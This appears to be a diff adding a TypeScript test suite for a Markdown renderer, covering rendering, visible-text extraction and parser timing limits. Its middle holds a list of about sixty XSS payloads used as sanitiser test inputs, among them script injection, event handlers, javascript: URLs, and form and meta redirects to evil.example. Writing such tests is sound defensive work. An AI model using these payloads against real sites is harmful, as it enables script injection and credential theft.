@@ -1,0 +1,249 @@
+import assert from "node:assert/strict";
+import { describe, test } from "node:test";
+import { inspectMarkdown, renderMarkdown } from "./markdown.ts";
+
+test("renders CommonMark with tables, below the headings of the page", () => {
+  const html = renderMarkdown(
+    "# Quill\n\nWrites *notes* and `code`, ~~slowly~~ **fast**.\n\n- one\n- two\n\n###### Small\n\n| a | b |\n|---|---|\n| 1 | 2 |",
+  );
+  assert.equal(
+    html,
+    "<h3>Quill</h3>\n<p>Writes <em>notes</em> and <code>code</code>, <s>slowly</s> <strong>fast</strong>.</p>\n" +
+      "<ul>\n<li>one</li>\n<li>two</li>\n</ul>\n<h6>Small</h6>\n" +
+      "<table>\n<thead>\n<tr>\n<th>a</th>\n<th>b</th>\n</tr>\n</thead>\n" +
+      "<tbody>\n<tr>\n<td>1</td>\n<td>2</td>\n</tr>\n</tbody>\n</table>\n",
+  );
+});
+
+test("links lead to https URLs and mail addresses, and give the vendor no credit", () => {
+  assert.equal(
+    renderMarkdown("[help](https://quill.example/help) <mailto:a@quill.example>"),
+    '<p><a href="https://quill.example/help" rel="nofollow noopener ugc">help</a> ' +
+      '<a href="mailto:a@quill.example" rel="nofollow noopener ugc">mailto:a@quill.example</a></p>\n',
+  );
+});
+
+/** Attacks on pages that show Markdown of others, by what they try. */
+const attacks: string[] = [
+  "<script>alert(1)</script>",
+  "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
+  "<img src=x onerror=alert(1)>",
+  '<img src="x:gif" onerror="alert(1)">',
+  "<svg/onload=alert(1)>",
+  "<svg><script>alert&#40;1&#41;</script>",
+  "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
+  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
+  "<body onload=alert(1)>",
+  "<a href='javascript:alert(1)'>x</a>",
+  "<a href=java&#1;script:alert(1)>x</a>",
+  "<details open ontoggle=alert(1)>",
+  "<style>@import 'https://evil.example/x.css';</style>",
+  "<link rel=stylesheet href=https://evil.example>",
+  "<meta http-equiv=refresh content='0;url=https://evil.example'>",
+  "<base href=https://evil.example/>",
+  "<form action=https://evil.example><input name=password></form>",
+  "<object data=javascript:alert(1)>",
+  "<!--><script>alert(1)</script>-->",
+  "<![CDATA[<script>alert(1)</script>]]>",
+  "<?php echo 1 ?><script>alert(1)</script>",
+  "</p><script>alert(1)</script>",
+  "[x](javascript:alert(1))",
+  "[x](JaVaScRiPt:alert(1))",
+  "[x](java\tscript:alert(1))",
+  "[x](<java\nscript:alert(1)>)",
+  "[x](&#106;avascript:alert(1))",
+  "[x](\\javascript:alert(1))",
+  "[x](javascript&colon;alert(1))",
+  "[x](\u0001javascript:alert(1))",
+  "[x](vbscript:msgbox(1))",
+  "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
+  "[x](file:///etc/passwd)",
+  "[x](//evil.example)",
+  "[x](/practice/other)",
+  "[x](http://evil.example)",
+  '[x](https://a.example "onmouseover=alert(1) x=\'")',
+  '[x](https://a.example"onmouseover="alert(1))',
+  '[x](<https://a.example" onmouseover="alert(1)>)',
+  "[x]\n\n[x]: javascript:alert(1)",
+  "![x](https://evil.example/pixel.gif)",
+  "![x](javascript:alert(1))",
+  '![x" onerror="alert(1)](https://evil.example)',
+  "<javascript:alert(1)>",
+  '<https://a.example/"onclick=alert(1)>',
+  "```<script>\nalert(1)\n```",
+  '```" onmouseover="alert(1)\nx\n```',
+  "`<script>alert(1)</script>`",
+  "&lt;script&gt;alert(1)&lt;/script&gt;",
+  "&#x3c;script&#x3e;alert(1)&#x3c;/script&#x3e;",
+  "<scr<script>ipt>alert(1)</script>",
+  "\u003cscript\u003ealert(1)\u003c/script\u003e",
+  "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
+  "# <img src=x onerror=alert(1)>",
+  "> <script>alert(1)</script>",
+  "* <svg onload=alert(1)>",
+  "[<img src=x onerror=alert(1)>](https://a.example)",
+  "{{constructor.constructor('alert(1)')()}}",
+  "\u2028<script>alert(1)</script>\u2029",
+  "<\u0000script>alert(1)</script>",
+  "x\u202e<script>",
+];
+
+const allowedTags = /^<\/?(?:p|em|strong|s|code|pre|ul|ol|li|blockquote|hr|br|h[3-6]|table|thead|tbody|tr|th|td)>$/;
+const allowedWithAttributes = [
+  /^<a href="(?:https:\/\/|mailto:)[^"<>]*"(?: title="[^"<>]*")? rel="nofollow noopener ugc">$/,
+  /^<\/a>$/,
+  /^<ol start="\d+">$/,
+  /^<t[hd] style="text-align:(?:left|right|center)">$/,
+  /^<code class="language-[^"<>]*">$/,
+];
+
+/** Every tag must be one that Markdown makes: what else a vendor wrote is text. */
+function findForeignTags(html: string): string[] {
+  return (html.match(/<[^>]*>?/g) ?? []).filter(
+    (tag) => !allowedTags.test(tag) && !allowedWithAttributes.some((allowed) => allowed.test(tag)),
+  );
+}
+
+describe("what a vendor writes is data", () => {
+  for (const attack of attacks) {
+    test(JSON.stringify(attack), () => {
+      for (const text of [attack, `Text ${attack} text`, `- a\n\n  ${attack}`, `${attack}\n${attack}`]) {
+        assert.deepEqual(findForeignTags(renderMarkdown(text)), [], renderMarkdown(text));
+      }
+    });
+  }
+
+  test("the check itself finds a script", () => {
+    assert.deepEqual(findForeignTags("<p>a</p><script>"), ["<script>"]);
+    assert.equal(findForeignTags('<a href="javascript:x" rel="nofollow noopener ugc">').length, 1);
+  });
+});
+
+const visibleText = (text: string): string => inspectMarkdown(text).visibleText;
+
+describe("what a reader sees", () => {
+  test("is the text without marks", () => {
+    assert.equal(visibleText("# A\n\n*b* [c](https://d.example) `e`\n\n    f"), "A b c e f");
+  });
+  for (const text of [
+    "",
+    "   ",
+    "***",
+    "[](https://a.example)",
+    "[a]: https://a.example",
+    "&nbsp;\u200b\u2060",
+    "\u3164",
+    "> ",
+    "- ",
+  ]) {
+    test(`is nothing of ${JSON.stringify(text)}`, () => assert.equal(visibleText(text), ""));
+  }
+  test("includes HTML, as it is written", () => assert.equal(visibleText("<b>x</b>"), "<b> x </b>"));
+});
+
+test("HTML is noticed, and what only looks like it isn't", () => {
+  for (const text of ["<b>x</b>", "<div>\n\nx\n</div>", "<!-- x -->", "a <br> b"])
+    assert.ok(inspectMarkdown(text).hasHtml, text);
+  for (const text of ["a < b > c", "`<b>`", "<https://a.example>", "\\<b>", "&lt;b&gt;"])
+    assert.ok(!inspectMarkdown(text).hasHtml, text);
+});
+
+/** As long as a listing's description may be. */
+describe("no text of 20,000 characters takes 75 ms", () => {
+  const size = 20_000;
+  const fill = (unit: string): string => unit.repeat(Math.ceil(size / unit.length)).slice(0, size);
+  const texts: [string, string][] = [
+    "[",
+    "]",
+    "![",
+    "[a](",
+    "*",
+    "_",
+    "*a_ ",
+    "**a ",
+    "`",
+    "`a``",
+    "~~",
+    "~",
+    "<",
+    "<a ",
+    "<!--",
+    "&",
+    "&#",
+    "\\",
+    ">",
+    "> ",
+    ">> a\n",
+    "- ",
+    "- a\n",
+    "1. ",
+    "  - a\n",
+    "|",
+    "|a",
+    "| a | b |\n",
+    "#",
+    "# a\n",
+    "\n",
+    " ",
+    "\t",
+    "a\n",
+    "<a><",
+    "[a]: b\n",
+    "[a][",
+    "](",
+    "<https://",
+    "a@b.",
+    "***a",
+    "_a*b_",
+    "[[a]](b)",
+    "\u00a0",
+    "é",
+    "😀",
+    "[a](<",
+    '[a](b "',
+    "`".repeat(30),
+    "~~~\n",
+    "```\n",
+    "<div>\n",
+    "<?",
+    "<![CDATA[",
+  ].map((unit) => [JSON.stringify(unit), fill(unit)]);
+  const half = size / 2;
+  const shaped: [string, string][] = [
+    ["nested emphasis", `${"*".repeat(half)}a${"*".repeat(half - 1)}`],
+    ["nested brackets", `${"[".repeat(half)}a${"]".repeat(half - 1)}`],
+    ["nested quotes", `${">".repeat(half)}${"a".repeat(half)}`],
+    [
+      "nested lists",
+      Array.from({ length: 300 }, (_, depth) => `${" ".repeat(depth)}- a`)
+        .join("\n")
+        .slice(0, size),
+    ],
+    [
+      "backticks of every length",
+      Array.from({ length: 310 }, (_, length) => "`".repeat(length))
+        .join(" ")
+        .slice(0, size),
+    ],
+    ["a table of many columns", `${"|a".repeat(half / 4)}|\n${"|-".repeat(half / 4)}|\n${"|b".repeat(half / 4)}`],
+    [
+      "definitions that refer to each other",
+      Array.from({ length: 2_500 }, (_, n) => `[${n}]: /${n} [${n}]`)
+        .join("\n")
+        .slice(0, size),
+    ],
+  ];
+  for (const [what, text] of [...texts, ...shaped]) {
+    test(what, () => {
+      for (const work of [renderMarkdown, inspectMarkdown]) {
+        const times = Array.from({ length: 3 }, () => {
+          const began = process.threadCpuUsage();
+          work(text);
+          const { user, system } = process.threadCpuUsage(began);
+          return (user + system) / 1_000;
+        });
+        assert.ok(Math.min(...times) < 75, `${work.name}: ${Math.min(...times)} ms`);
+      }
+    });
+  }
+});
